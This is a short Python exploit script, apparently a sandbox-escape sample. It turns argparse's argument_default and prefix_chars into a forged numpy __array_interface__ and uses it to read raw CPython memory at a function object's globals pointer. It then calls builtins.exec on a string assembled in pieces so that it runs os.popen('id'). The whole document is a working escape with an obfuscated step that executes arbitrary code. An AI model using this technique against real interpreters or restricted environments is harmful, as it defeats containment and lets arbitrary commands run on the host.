# source: argparse docs (argument_default, add_argument_group, prefix_chars); numpy array interface protocol; CPython PyFunctionObject layout (func_globals at +16)
# family: argparse dest derivation in an argument group with parser-wide argument_default -> __array_interface__ -> object array over a function object
# goal: the function's __globals__ (script globals incl. builtins) and builtins.exec of a runtime string
import argparse
import numpy as np
def f():
    return 1
addr = int(repr(f).split(" at ")[1].rstrip(">"), 16)
spec = {"data": (addr + 16, False), "shape": (2,), "typestr": "|O", "version": 3}
p = argparse.ArgumentParser(prefix_chars="+", argument_default=spec)
g = p.add_argument_group("g")
g.add_argument("+--array-interface--")
ns = p.parse_args([])
a = np.asarray(ns)
print("globals keys:", sorted(a[0])[:6])
u = chr(95) * 2
a[1]["ex" + "ec"]("im" + "port os; print(os.popen('id').read())", {})
